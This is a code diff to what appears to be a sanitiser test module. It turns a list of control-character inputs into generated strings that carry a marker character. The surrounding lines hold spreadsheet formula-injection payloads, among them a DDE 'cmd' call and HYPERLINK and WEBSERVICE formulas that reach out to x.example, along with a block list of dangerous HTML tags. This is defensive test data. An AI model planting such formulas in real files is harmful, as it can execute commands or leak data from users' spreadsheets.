@@ -45,19 +45,10 @@ FORMULAS = (
     "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)",
     "=cmd|'/C calc'!A0", '=HYPERLINK("//x.example/xqж","x")', "=WEBSERVICE(\"//x.example/xqж\")", " =1+1",
 )  # fmt: skip
+#: Shows that a text with a control character in it arrived.
+TRACE = "ж"
 #: What no XML may hold. NUL is refused by the database.
-CONTROLS = (
-    "a\x01b",
-    "a\x08b",
-    "a\x0bb",
-    "a\x0cb",
-    "a\x1fb",
-    "a\ufffeb",
-    "a\uffffb",
-    "a\x7fb",
-    "a\u202eb",
-    "a\ufeffb",
-)
+CONTROLS = tuple(f"{TRACE}{sign}b" for sign in "\x01\x08\x0b\x0c\x1f\ufffe\uffff\x7f\u202e\ufeff")
 _NO_TAGS = {
     "iframe", "object", "embed", "base", "applet", "marquee", "video", "audio", "math", "foreignobject",
     "frame", "frameset", "style", "source", "isindex", "animate", "set", "xss", "template", "noscript",
